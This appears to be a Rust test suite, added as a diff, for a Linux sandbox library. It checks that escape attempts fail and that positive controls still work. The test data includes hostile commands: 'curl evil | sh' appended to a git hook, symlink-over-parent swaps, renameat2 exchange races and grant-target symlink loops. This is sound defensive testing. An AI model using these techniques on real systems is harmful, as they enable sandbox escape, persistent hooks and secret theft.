@@ -1,0 +1,622 @@
+//! Issue 12, classes 1 (nested roots), 3b (path-grant TOCTOU) and 11 (silent narrowing), on
+//! the Linux backend through the library: every attack runs from inside a sandbox (or, for the
+//! races, from a host thread while spawns run) and fails, next to a positive control that shows
+//! the same primitive works where the policy allows it. Needs root or the rootless mode.
+//!
+//! `harness = false`: `main` calls `sandbox::init()` first, as every embedder must.
+#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, clippy::tests_outside_test_module)]
+
+#[cfg(target_os = "linux")]
+mod linux {
+    use std::fs;
+    use std::os::unix::fs::symlink;
+    use std::path::Path;
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+    use sandbox::{Access, Error, Executor, ExecutorSet, ExitStatus, GrantRequest, Profile, ProfileConfig, RootAccess};
+    use sandbox_tests::TestDirs;
+
+    pub use sandbox_tests::deadline as dl;
+
+    fn root(path: &Path, read: Access, write: Access) -> RootAccess {
+        RootAccess { path: path.to_path_buf(), read, write }
+    }
+
+    /// The issue's `P(root, r, w)`: workspace read-write, host read deny, commands allowed.
+    fn config(dirs: &TestDirs, roots: Vec<RootAccess>) -> ProfileConfig {
+        ProfileConfig {
+            host_read: Access::Deny,
+            host_write: Access::Deny,
+            network: Access::Deny,
+            additional_roots: roots,
+            ..dirs.allow_config()
+        }
+    }
+
+    fn set_of(dirs: &TestDirs, profile: &Profile) -> ExecutorSet {
+        ExecutorSet::new(&dl(), profile, dirs.set_options(4)).unwrap()
+    }
+
+    /// Runs `script` with `sh -c` in the workspace; (exit code, combined output).
+    fn sh(exec: &Executor, dirs: &TestDirs, script: &str) -> Result<(i32, String), Error> {
+        exec.run_argv(&dl(), &dirs.ws, &["/bin/sh", "-c", script]).map(|o| {
+            let code = match o.status {
+                ExitStatus::Code(c) => c,
+                other => panic!("{script}: {other:?}"),
+            };
+            (code, String::from_utf8_lossy(&o.bytes).into_owned())
+        })
+    }
+
+    fn sh_ok(exec: &Executor, dirs: &TestDirs, script: &str) -> String {
+        let (code, out) = sh(exec, dirs, script).unwrap();
+        assert_eq!(code, 0, "{script}: {out}");
+        out
+    }
+
+    /// Each attack line prints `<name>=<exit code>`; every one must have failed.
+    fn all_failed(out: &str, names: &[&str]) {
+        for n in names {
+            let line = out.lines().find(|l| l.starts_with(&format!("{n}="))).unwrap_or_else(|| panic!("no {n}: {out}"));
+            assert_ne!(line, format!("{n}=0"), "attack {n} succeeded: {out}");
+        }
+    }
+
+    fn attempt(name: &str, cmd: &str) -> String {
+        format!("({cmd}) >/dev/null 2>&1; echo {name}=$?; ")
+    }
+
+    /// 1a: a deny root nested in the writable workspace. Renaming its parent or grandparent,
+    /// removing or renaming it, or replacing an ancestor by a symlink all fail inside run 1, so
+    /// run 2 (same Profile, and a new Profile from the same config, as the CLI makes) never
+    /// reads the secret. Positive control: ordinary directories and files are created, renamed
+    /// and removed freely, and a nested writable root is writable.
+    pub fn nested_deny_root_cannot_be_moved_away_from_its_name() {
+        let d = TestDirs::new("sbx-roots");
+        fs::create_dir_all(d.ws.join("cfg/secrets")).unwrap();
+        fs::write(d.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
+        fs::create_dir_all(d.ws.join("a/b/c/secrets")).unwrap();
+        fs::write(d.ws.join("a/b/c/secrets/key"), "DEEP\n").unwrap();
+        fs::create_dir_all(d.ws.join("a/rw")).unwrap();
+        let c = config(
+            &d,
+            vec![
+                root(&d.ws.join("cfg/secrets"), Access::Deny, Access::Deny),
+                root(&d.ws.join("a/b/c/secrets"), Access::Deny, Access::Deny),
+                root(&d.ws.join("a/rw"), Access::Allow, Access::Allow),
+            ],
+        );
+        let profile = Profile::new(c.clone()).unwrap();
+        let set = set_of(&d, &profile);
+        let exec = set.executor("k").unwrap();
+        let mut script = String::new();
+        for (name, cmd) in [
+            ("mv-parent", "mv cfg cfg-moved"),
+            ("mv-grandparent", "mv a a-moved"),
+            ("mv-middle", "mv a/b a/b-moved"),
+            ("mv-deep-parent", "mv a/b/c a/b/c-moved"),
+            ("mv-root", "mv -T cfg/secrets cfg/s2 && test -e cfg/s2 && ! test -e cfg/secrets"),
+            ("rmdir-root", "rmdir cfg/secrets"),
+            ("rm-rf-parent", "rm -rf cfg && ! test -e cfg"),
+            ("symlink-over-parent", "rm -rf a/b && ln -s / a/b"),
+            ("python-rename", "python3 -c 'import os; os.rename(\"cfg\", \"cfg-py\")'"),
+            (
+                "python-exchange",
+                "mkdir x && python3 -c 'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.renameat2(-100,b\"x\",-100,b\"cfg\",2); os._exit(0 if r==0 else 1)'",
+            ),
+            ("read-secret", "cat cfg/secrets/key a/b/c/secrets/key"),
+        ] {
+            script.push_str(&attempt(name, cmd));
+        }
+        let out = sh_ok(&exec, &d, &script);
+        all_failed(
+            &out,
+            &[
+                "mv-parent",
+                "mv-grandparent",
+                "mv-middle",
+                "mv-deep-parent",
+                "mv-root",
+                "rmdir-root",
+                "rm-rf-parent",
+                "symlink-over-parent",
+                "python-rename",
+                "python-exchange",
+                "read-secret",
+            ],
+        );
+        // Positive controls in the same run: the same primitives on ordinary entries work.
+        let ok = sh_ok(
+            &exec,
+            &d,
+            "mkdir -p p/q && echo data > p/q/f && mv p p2 && mv p2/q p2/q2 && rm -rf p2 && \
+             mkdir x2 y2 && python3 -c 'import ctypes; l=ctypes.CDLL(None); assert l.renameat2(-100,b\"x2\",-100,b\"y2\",2)==0' && \
+             ln -s / link && rm link && echo new > a/rw/f && mv a/rw/f a/rw/g && cat a/rw/g && echo controls-ok",
+        );
+        assert!(ok.ends_with("new\ncontrols-ok\n"), "{ok}");
+        // Run 2 with the same Profile, and with a new Profile from the same config.
+        let set2 = set_of(&d, &Profile::new(c).unwrap());
+        for exec2 in [&exec, &set2.executor("k2").unwrap()] {
+            let (_, out) =
+                sh(exec2, &d, "cat cfg-moved/secrets/key a-moved/b/c/secrets/key cfg/secrets/key 2>&1; true").unwrap();
+            assert!(!out.contains("TOP") && !out.contains("DEEP"), "secret read in run 2: {out}");
+        }
+        // On the host everything is where it was.
+        assert_eq!(fs::read_to_string(d.ws.join("cfg/secrets/key")).unwrap(), "TOP\n");
+        assert_eq!(fs::read_to_string(d.ws.join("a/b/c/secrets/key")).unwrap(), "DEEP\n");
+        assert!(!d.ws.join("cfg-moved").exists() && !d.ws.join("a-moved").exists());
+    }
+
+    /// 1b: a read-only `.git/hooks`: `.git` cannot be moved aside (nor hooks, nor replaced), a hook
+    /// cannot be appended to. Positive control: other files in `.git` are writable (it is the
+    /// workspace), and a hook is readable.
+    pub fn read_only_git_hooks_cannot_be_swapped_or_appended() {
+        let d = TestDirs::new("sbx-roots");
+        fs::create_dir_all(d.ws.join(".git/hooks")).unwrap();
+        fs::write(d.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
+        let profile =
+            Profile::new(config(&d, vec![root(&d.ws.join(".git/hooks"), Access::Allow, Access::Deny)])).unwrap();
+        let set = set_of(&d, &profile);
+        let exec = set.executor("k").unwrap();
+        let mut script = String::new();
+        for (name, cmd) in [
+            ("mv-git", "mv .git .git-real"),
+            ("mv-hooks", "mv .git/hooks .git/hooks-real"),
+            ("rm-git", "rm -rf .git && ! test -e .git"),
+            ("append-hook", "echo 'curl evil | sh' >> .git/hooks/pre-commit"),
+            ("new-hook", "echo evil > .git/hooks/post-checkout"),
+            ("replace-hook", "mv .git/hooks/pre-commit /tmp/pc"),
+            ("chmod-hook", "chmod 777 .git/hooks/pre-commit"),
+        ] {
+            script.push_str(&attempt(name, cmd));
+        }
+        let out = sh_ok(&exec, &d, &script);
+        all_failed(&out, &["mv-git", "mv-hooks", "rm-git", "append-hook", "new-hook", "replace-hook", "chmod-hook"]);
+        let ok =
+            sh_ok(&exec, &d, "echo ref > .git/HEAD && mv .git/HEAD .git/ORIG && cat .git/hooks/pre-commit && echo ok");
+        assert!(ok.ends_with("exit 0\nok\n"), "{ok}");
+        assert_eq!(fs::read_to_string(d.ws.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
+        assert!(!d.ws.join(".git-real").exists() && !d.ws.join(".git/hooks/post-checkout").exists());
+    }
+
+    /// 1c: a nested read-only root replaced between runs (by the host here: the workload cannot,
+    /// see above) by a symlink to `/`, `/proc` or `/tmp`, or by another directory: the next
+    /// spawn with the same Profile object fails naming the root and runs nothing; a new
+    /// Profile from the same config is refused (the root now goes through a symlink).
+    pub fn a_replaced_root_fails_the_next_spawn_naming_it() {
+        for target in ["/", "/proc", "/tmp", "dir"] {
+            let d = TestDirs::new("sbx-roots");
+            fs::create_dir_all(d.ws.join("a/ro")).unwrap();
+            fs::write(d.ws.join("a/ro/file"), "right\n").unwrap();
+            let ro = d.ws.join("a/ro");
+            let c = config(&d, vec![root(&ro, Access::Allow, Access::Deny)]);
+            let profile = Profile::new(c.clone()).unwrap();
+            let set = set_of(&d, &profile);
+            let exec = set.executor("k").unwrap();
+            // Positive control: the root reads as itself.
+            assert_eq!(sh_ok(&exec, &d, "cat a/ro/file"), "right\n");
+            fs::rename(d.ws.join("a"), d.ws.join("a-old")).unwrap();
+            fs::create_dir(d.ws.join("a")).unwrap();
+            if target == "dir" {
+                fs::create_dir(&ro).unwrap();
+                fs::write(ro.join("file"), "WRONG\n").unwrap();
+            } else {
+                symlink(target, &ro).unwrap();
+            }
+            let marker = d.ws.join("ran");
+            let got = sh(&exec, &d, &format!("touch {}; ls a/ro/ a/ro/etc 2>&1", marker.display()));
+            match &got {
+                Err(Error::InvalidProfile { detail }) => {
+                    assert!(detail.contains(&ro.display().to_string()), "{target}: {detail}");
+                    assert!(detail.contains("additional_roots"), "{target}: {detail}");
+                }
+                other => panic!("{target}: the spawn was not refused: {other:?}"),
+            }
+            assert!(!marker.exists(), "{target}: the workload ran");
+            // A new profile from the same config: refused (symlink) or a fresh, honest root.
+            match Profile::new(c) {
+                Err(Error::InvalidProfile { detail }) => {
+                    assert_ne!(target, "dir");
+                    assert!(detail.contains("additional_roots[0].path") && detail.contains("symlink"), "{detail}");
+                }
+                Ok(p) => {
+                    assert_eq!(target, "dir");
+                    let set2 = set_of(&d, &p);
+                    let exec = set2.executor("k").unwrap();
+                    assert_eq!(
+                        sh_ok(&exec, &d, "cat a/ro/file; (echo x > a/ro/new) 2>/dev/null || echo ro"),
+                        "WRONG\nro\n"
+                    );
+                }
+                Err(e) => panic!("{target}: {e:?}"),
+            }
+            // Back in place, the same Profile works again (nothing was widened or cached).
+            if target == "dir" {
+                fs::remove_dir_all(&ro).unwrap();
+            } else {
+                fs::remove_file(&ro).unwrap();
+            }
+            fs::remove_dir(d.ws.join("a")).unwrap();
+            fs::rename(d.ws.join("a-old"), d.ws.join("a")).unwrap();
+            assert_eq!(sh_ok(&exec, &d, "cat a/ro/file"), "right\n");
+        }
+    }
+
+    /// 1d: a root given through a symlink (`.codex -> decoy/`) is refused naming the field and
+    /// the real path; a workspace given through a symlink is still canonicalized (positive).
+    pub fn a_root_through_a_symlink_is_refused() {
+        let d = TestDirs::new("sbx-roots");
+        fs::create_dir(d.ws.join("decoy")).unwrap();
+        symlink(d.ws.join("decoy"), d.ws.join(".codex")).unwrap();
+        symlink(&d.ws, d.root.join("ws-link")).unwrap();
+        for path in [d.ws.join(".codex"), d.root.join("ws-link/decoy")] {
+            match Profile::new(config(&d, vec![root(&path, Access::Allow, Access::Deny)])) {
+                Err(Error::InvalidProfile { detail }) => {
+                    assert!(detail.contains("additional_roots[0].path"), "{detail}");
+                    assert!(detail.contains(&d.ws.join("decoy").display().to_string()), "{detail}");
+                }
+                other => panic!("{}: {other:?}", path.display()),
+            }
+        }
+        let p = Profile::new(ProfileConfig {
+            workspace_root: d.root.join("ws-link"),
+            additional_roots: vec![root(&d.ws.join("decoy"), Access::Allow, Access::Deny)],
+            ..config(&d, vec![])
+        })
+        .unwrap();
+        assert_eq!(p.workspace_root(), d.ws.as_path());
+        let set = set_of(&d, &p);
+        let exec = set.executor("k").unwrap();
+        let out = sh_ok(&exec, &d, "(echo x > decoy/f) 2>/dev/null || echo decoy-ro; echo y > own && echo ws-rw");
+        assert_eq!(out, "decoy-ro\nws-rw\n");
+    }
+
+    /// 1a/1c at the window: a host thread swaps a deny root with a decoy directory (rename
+    /// exchange) in a loop while spawns with the same Profile run. Every spawn either fails
+    /// (before building: InvalidProfile; after mounting: the init's identity check) or has its
+    /// mask on the root's own directory: the secret is never readable under either name. (A
+    /// mount follows its directory when the host renames it, so the mask stays on the secret.)
+    pub fn a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed() {
+        let d = TestDirs::new("sbx-roots");
+        fs::create_dir_all(d.ws.join("a/secrets")).unwrap();
+        fs::create_dir_all(d.ws.join("a/decoy")).unwrap();
+        fs::write(d.ws.join("a/secrets/file"), "SECRET\n").unwrap();
+        fs::write(d.ws.join("a/decoy/file"), "decoy\n").unwrap();
+        let profile =
+            Profile::new(config(&d, vec![root(&d.ws.join("a/secrets"), Access::Deny, Access::Deny)])).unwrap();
+        let set = set_of(&d, &profile);
+        let exec = set.executor("k").unwrap();
+        let probe = "cat a/secrets/file a/decoy/file 2>/dev/null; true";
+        // Positive control: the decoy reads, the secret does not.
+        assert_eq!(sh_ok(&exec, &d, probe), "decoy\n");
+        let secret_ino = std::os::unix::fs::MetadataExt::ino(&fs::metadata(d.ws.join("a/secrets")).unwrap());
+        let stop = Arc::new(AtomicBool::new(false));
+        let swapper = {
+            let (stop, a, b) = (Arc::clone(&stop), d.ws.join("a/secrets"), d.ws.join("a/decoy"));
+            std::thread::spawn(move || {
+                let a = std::ffi::CString::new(a.to_str().unwrap()).unwrap();
+                let b = std::ffi::CString::new(b.to_str().unwrap()).unwrap();
+                let mut swaps = 0u64;
+                while !stop.load(Ordering::SeqCst) {
+                    // SAFETY: both paths are NUL-terminated and alive for the call.
+                    let rc = unsafe {
+                        libc::renameat2(libc::AT_FDCWD, a.as_ptr(), libc::AT_FDCWD, b.as_ptr(), libc::RENAME_EXCHANGE)
+                    };
+                    assert_eq!(rc, 0, "{}", std::io::Error::last_os_error());
+                    swaps += 1;
+                    // Swapped for longer than in place: the in-place moments are when a spawn
+                    // passes the check before building, and the next swap then often lands
+                    // before the mount (with the init's check disabled, this loop reads the
+                    // secret within a few spawns).
+                    std::thread::sleep(Duration::from_micros(if swaps.is_multiple_of(2) { 300 } else { 3000 }));
+                }
+                swaps
+            })
+        };
+        let (mut ran, mut refused, mut caught_inside, mut not_built) = (0, 0, 0, 0);
+        let end = Instant::now() + Duration::from_secs(20);
+        let mut spawns = 0;
+        let mut even = 0;
+        while Instant::now() < end && spawns < 600 {
+            spawns += 1;
+            // Spawns at varying phases of the swap loop.
+            std::thread::sleep(Duration::from_micros(150 * (spawns % 7)));
+            use std::os::unix::fs::MetadataExt;
+            if fs::metadata(d.ws.join("a/secrets")).map(|m| m.ino()).ok() == Some(secret_ino) {
+                even += 1;
+            }
+            match sh(&exec, &d, probe) {
+                Ok((_, out)) => {
+                    assert!(!out.contains("SECRET"), "spawn {spawns} read the deny root: {out}");
+                    ran += 1;
+                }
+                Err(Error::InvalidProfile { detail }) => {
+                    if refused == 0 {
+                        println!("  first refusal: {detail}");
+                    }
+                    refused += 1;
+                }
+                Err(Error::Runtime { detail }) if detail.contains("identities") => {
+                    if caught_inside == 0 {
+                        println!("  first failure inside: {detail}");
+                    }
+                    caught_inside += 1;
+                }
+                Err(Error::Runtime { detail }) => {
+                    assert!(!detail.contains("SECRET"));
+                    if not_built == 0 {
+                        println!("  first failure to build: {detail}");
+                    }
+                    not_built += 1;
+                }
+                Err(e) => panic!("spawn {spawns}: {e:?}"),
+            }
+        }
+        stop.store(true, Ordering::SeqCst);
+        let swaps = swapper.join().unwrap();
+        println!(
+            "  {spawns} spawns, {swaps} swaps: {ran} ran with the mask in place, {refused} refused before building, \
+             {caught_inside} failed by the init's check after mounting, {not_built} not built by the runtime ({even} in place just before)"
+        );
+        assert!(refused + caught_inside > 0, "the swap never hit a spawn");
+        if fs::read_to_string(d.ws.join("a/secrets/file")).unwrap() != "SECRET\n" {
+            fs::rename(d.ws.join("a/secrets"), d.ws.join("a/tmp")).unwrap();
+            fs::rename(d.ws.join("a/decoy"), d.ws.join("a/secrets")).unwrap();
+            fs::rename(d.ws.join("a/tmp"), d.ws.join("a/decoy")).unwrap();
+        }
+        assert_eq!(sh_ok(&exec, &d, probe), "decoy\n");
+    }
+
+    fn in_ms(ms: i64) -> i64 {
+        i64::try_from(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_millis()).unwrap() + ms
+    }
+
+    /// 3b: a path-read grant's target swapped for a symlink to a host secret in a loop by a
+    /// host thread while spawns with fresh tokens run: no spawn ever prints the secret; a swap
+    /// is GrantTargetChanged (before building, or after mounting by the init's check).
+    /// Positive control: without the swapper every spawn reads the granted file.
+    pub fn a_path_grant_target_swapped_in_a_loop_never_binds_another_file() {
+        for by_workload in [false, true] {
+            grant_swap_loop(false, by_workload);
+            grant_swap_loop(true, by_workload);
+        }
+    }
+
+    /// One class of 3b: a path-read grant of a file (`tree` false) or a tree-read grant of a
+    /// directory (`tree` true), its target swapped for a symlink to a secret in a loop by a host
+    /// thread, or (`by_workload`) by a sandboxed workload of another set that may write the
+    /// workspace.
+    fn grant_swap_loop(tree: bool, by_workload: bool) {
+        let d = TestDirs::new("sbx-roots");
+        let (target_path, secret, cmd) = if tree {
+            fs::create_dir(d.ws.join("t")).unwrap();
+            fs::write(d.ws.join("t/f"), "granted\n").unwrap();
+            fs::create_dir(d.root.join("secret-dir")).unwrap();
+            fs::write(d.root.join("secret-dir/f"), "SECRET\n").unwrap();
+            (d.ws.join("t"), d.root.join("secret-dir"), "cat t/f")
+        } else {
+            fs::write(d.ws.join("f"), "granted\n").unwrap();
+            fs::write(d.root.join("secret"), "SECRET\n").unwrap();
+            (d.ws.join("f"), d.root.join("secret"), "cat f")
+        };
+        let profile = Profile::new(ProfileConfig {
+            workspace_read: Access::Gated,
+            workspace_write: Access::Deny,
+            ..config(&d, vec![])
+        })
+        .unwrap();
+        let set = set_of(&d, &profile);
+        let exec = set.executor("k").unwrap();
+        let target = target_path.display().to_string();
+        let (scope, class) = if tree {
+            (format!("tree:{target}"), "filesystem.tree.read.v1")
+        } else {
+            (target.clone(), "filesystem.path.read.v1")
+        };
+        let token = || {
+            exec.issue_grant(
+                &dl(),
+                &GrantRequest {
+                    execution_id: String::from("exec-1"),
+                    command: cmd.to_owned(),
+                    cwd: d.ws.clone(),
+                    kind: String::from("filesystem.read"),
+                    scope: scope.clone(),
+                    class: class.to_owned(),
+                    target: target.clone(),
+                    expiry_unix_ms: in_ms(120_000),
+                },
+            )
+            .unwrap()
+        };
+        let run = |t: String| exec.run_command_with_grants(&dl(), "exec-1", &d.ws, cmd, &[t]);
+        // Positive control.
+        for _ in 0..3 {
+            assert_eq!(run(token()).unwrap().bytes, b"granted\n");
+        }
+        let tokens: Vec<String> = (0..120).map(|_| token()).collect();
+        let stop = Arc::new(AtomicBool::new(false));
+        let stop_file = d.ws.join("stop-swapping");
+        let swapper = if by_workload {
+            let writer = Profile::new(config(&d, vec![])).unwrap();
+            let (ws, opts) = (d.ws.clone(), d.set_options(2));
+            let args = [target_path.clone(), d.ws.join("aside"), secret.clone(), stop_file.clone()];
+            let args: Vec<String> = args.iter().map(|p| p.display().to_string()).collect();
+            let handle = std::thread::spawn(move || {
+                let set = ExecutorSet::new(&dl(), &writer, opts).unwrap();
+                let exec = set.executor("swapper").unwrap();
+                let script = "import os, sys, time\n\
+                              f, aside, secret, stop = sys.argv[1:5]\n\
+                              n = 0\n\
+                              while not os.path.exists(stop):\n\
+                              \x20   os.rename(f, aside); os.symlink(secret, f); time.sleep(0.0003)\n\
+                              \x20   os.unlink(f); os.rename(aside, f); time.sleep(0.0003); n += 1\n\
+                              print(n)\n";
+                let mut argv = vec![String::from("python3"), String::from("-c"), String::from(script)];
+                argv.extend(args);
+                let out = exec.run_argv(&sandbox::Deadline::after(Duration::from_secs(120)), &ws, &argv).unwrap();
+                assert_eq!(out.status, ExitStatus::Code(0), "{}", String::from_utf8_lossy(&out.bytes));
+                String::from_utf8_lossy(&out.bytes).trim().parse::<u64>().unwrap()
+            });
+            // The loop runs once the target has been moved aside at least once.
+            let start = Instant::now();
+            while !d.ws.join("aside").exists() && start.elapsed() < Duration::from_secs(30) {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            std::thread::sleep(Duration::from_millis(200));
+            handle
+        } else {
+            let (stop, f, aside) = (Arc::clone(&stop), target_path.clone(), d.ws.join("aside"));
+            std::thread::spawn(move || {
+                let mut swaps = 0u64;
+                while !stop.load(Ordering::SeqCst) {
+                    fs::rename(&f, &aside).unwrap();
+                    symlink(&secret, &f).unwrap();
+                    std::thread::sleep(Duration::from_micros(300));
+                    fs::remove_file(&f).unwrap();
+                    fs::rename(&aside, &f).unwrap();
+                    std::thread::sleep(Duration::from_micros(300));
+                    swaps += 1;
+                }
+                swaps
+            })
+        };
+        let (mut granted, mut changed_before, mut changed_inside, mut other) = (0, 0, 0, 0);
+        let by = if by_workload { "a sandboxed workload" } else { "a host thread" };
+        let end = Instant::now() + Duration::from_secs(25);
+        for (i, t) in tokens.into_iter().enumerate() {
+            if Instant::now() > end {
+                break;
+            }
+            // Spawns at varying phases of the swap loop.
+            std::thread::sleep(Duration::from_micros(150 * (i as u64 % 7)));
+            match run(t) {
+                Ok(o) => {
+                    let text = String::from_utf8_lossy(&o.bytes).into_owned();
+                    assert!(!text.contains("SECRET"), "{class}: a spawn read the swapped-in target: {text}");
+                    if o.status == ExitStatus::Code(0) {
+                        assert_eq!(text, "granted\n");
+                        granted += 1;
+                    } else {
+                        other += 1;
+                    }
+                }
+                Err(Error::GrantTargetChanged { detail }) if detail.contains("identities") => changed_inside += 1,
+                Err(Error::GrantTargetChanged { .. }) => changed_before += 1,
+                Err(Error::Runtime { detail }) => {
+                    assert!(!detail.contains("SECRET"));
+                    other += 1;
+                }
+                Err(e) => panic!("{class}: unexpected: {e:?}"),
+            }
+        }
+        stop.store(true, Ordering::SeqCst);
+        fs::write(&stop_file, "").unwrap();
+        let swaps = swapper.join().unwrap();
+        fs::remove_file(&stop_file).unwrap();
+        println!(
+            "  {class}, swapped by {by}: {swaps} swaps: {granted} read the granted target, {changed_before} GrantTargetChanged before \
+             building, {changed_inside} after mounting (the init's check), {other} failed otherwise (nothing to bind)"
+        );
+        assert!(changed_before + changed_inside > 0, "the swap never hit a spawn");
+        assert_eq!(run(token()).unwrap().bytes, b"granted\n");
+    }
+
+    /// 11: a root exactly at a path that is always private inside is refused naming it; a root
+    /// under /tmp and under /dev/shm is honoured (positive: readable or masked as configured).
+    pub fn roots_at_private_paths_are_refused_and_under_them_honoured() {
+        let d = TestDirs::new("sbx-roots");
+        for (i, private) in ["/tmp", "/dev/shm", "/dev", "/proc", "/sys", "/run"].into_iter().enumerate() {
+            if !Path::new(private).is_dir() {
+                continue;
+            }
+            for (r, w) in [(Access::Allow, Access::Allow), (Access::Deny, Access::Deny)] {
+                match Profile::new(config(&d, vec![root(Path::new(private), r, w)])) {
+                    Err(Error::InvalidProfile { detail }) => {
+                        assert!(
+                            detail.contains("additional_roots[0].path") && detail.contains(private),
+                            "{i}: {detail}"
+                        );
+                    }
+                    other => panic!("{private}: {other:?}"),
+                }
+            }
+        }
+        // Under /tmp and /dev/shm: honoured exactly.
+        let tmp = tempfile::Builder::new().prefix("sbx-roots").tempdir_in("/tmp").unwrap();
+        let t = fs::canonicalize(tmp.path()).unwrap();
+        fs::create_dir_all(t.join("open")).unwrap();
+        fs::create_dir_all(t.join("closed")).unwrap();
+        fs::write(t.join("open/f"), "open\n").unwrap();
+        fs::write(t.join("closed/f"), "closed\n").unwrap();
+        let profile = Profile::new(config(
+            &d,
+            vec![
+                root(&t.join("open"), Access::Allow, Access::Allow),
+                root(&t.join("closed"), Access::Deny, Access::Deny),
+            ],
+        ))
+        .unwrap();
+        let set = set_of(&d, &profile);
+        let exec = set.executor("k").unwrap();
+        let script = format!(
+            "cat {o}/f; echo w > {o}/w && echo open-w; cat {c}/f 2>/dev/null || echo closed-no; \
+             echo private > /tmp/p && cat /tmp/p",
+            o = t.join("open").display(),
+            c = t.join("closed").display()
+        );
+        assert_eq!(sh_ok(&exec, &d, &script), "open\nopen-w\nclosed-no\nprivate\n");
+        // Under /dev/shm: bound over the sandbox's own /dev/shm, as configured.
+        if let Ok(shm) = tempfile::Builder::new().prefix("sbx-roots").tempdir_in("/dev/shm") {
+            let s = fs::canonicalize(shm.path()).unwrap();
+            fs::write(s.join("f"), "in shm\n").unwrap();
+            for (r, want) in [(Access::Allow, "in shm\n"), (Access::Deny, "no\n")] {
+                let profile = Profile::new(config(&d, vec![root(&s, r, Access::Deny)])).unwrap();
+                let set = set_of(&d, &profile);
+                let exec = set.executor("k").unwrap();
+                let got = sh_ok(&exec, &d, &format!("cat {}/f 2>/dev/null || echo no", s.display()));
+                assert_eq!(got, want, "{r:?}");
+            }
+        } else {
+            println!("!!!!!!!! no /dev/shm here: the root-under-/dev/shm control did not run !!!!!!!!");
+        }
+        assert_eq!(fs::read_to_string(t.join("open/w")).unwrap(), "w\n");
+        assert!(!Path::new("/tmp/p").exists() || fs::read_to_string("/tmp/p").unwrap() != "private\n");
+    }
+}
+
+fn main() -> std::process::ExitCode {
+    sandbox::init();
+    #[cfg(target_os = "linux")]
+    {
+        if !sandbox_tests::privileged("linux_roots") {
+            return std::process::ExitCode::SUCCESS;
+        }
+        use linux::*;
+        sandbox_tests::run_tests(&[
+            (
+                "nested_deny_root_cannot_be_moved_away_from_its_name",
+                nested_deny_root_cannot_be_moved_away_from_its_name,
+            ),
+            ("read_only_git_hooks_cannot_be_swapped_or_appended", read_only_git_hooks_cannot_be_swapped_or_appended),
+            ("a_replaced_root_fails_the_next_spawn_naming_it", a_replaced_root_fails_the_next_spawn_naming_it),
+            ("a_root_through_a_symlink_is_refused", a_root_through_a_symlink_is_refused),
+            (
+                "a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed",
+                a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed,
+            ),
+            (
+                "a_path_grant_target_swapped_in_a_loop_never_binds_another_file",
+                a_path_grant_target_swapped_in_a_loop_never_binds_another_file,
+            ),
+            (
+                "roots_at_private_paths_are_refused_and_under_them_honoured",
+                roots_at_private_paths_are_refused_and_under_them_honoured,
+            ),
+        ])
+    }
+    #[cfg(not(target_os = "linux"))]
+    std::process::ExitCode::SUCCESS
+}
